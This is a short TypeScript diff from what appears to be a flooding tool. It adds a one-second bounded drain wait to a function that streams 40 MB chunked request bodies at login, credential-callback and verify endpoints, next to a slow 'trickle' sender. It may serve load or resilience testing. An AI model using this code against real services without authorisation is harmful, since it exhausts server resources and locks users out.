@@ -62,6 +62,12 @@ function trickle(socket: Socket, until: AbortSignal): void {
   socket.once("close", () => clearInterval(timer));
 }
 
+/** Waits until the server has taken what was sent, but at most a second. */
+async function untilDrained(socket: Socket, until: AbortSignal): Promise<void> {
+  const signal = AbortSignal.any([until, AbortSignal.timeout(1000)]);
+  await once(socket, "drain", { signal }).catch(() => {});
+}
+
 const CHUNK = Buffer.alloc(64 * 1024, "a");
 const CHUNKS = 640; // 40 MB
 const PATHS = ["/api/v1/auth/login", "/api/auth/callback/credentials", "/login", "/verify"];
@@ -84,8 +90,7 @@ async function giant(target: Target, path: string, until: AbortSignal, tally: Ta
   );
   for (let sent = 0; sent < CHUNKS && !ended && !until.aborted; sent += 1) {
     const flushed = socket.write(Buffer.concat([Buffer.from("10000\r\n"), CHUNK, Buffer.from("\r\n")]));
-    if (!flushed)
-      await Promise.race([once(socket, "drain").catch(() => {}), once(socket, "close"), wait(1000, until)]);
+    if (!flushed) await untilDrained(socket, until);
   }
   socket.destroy();
 }
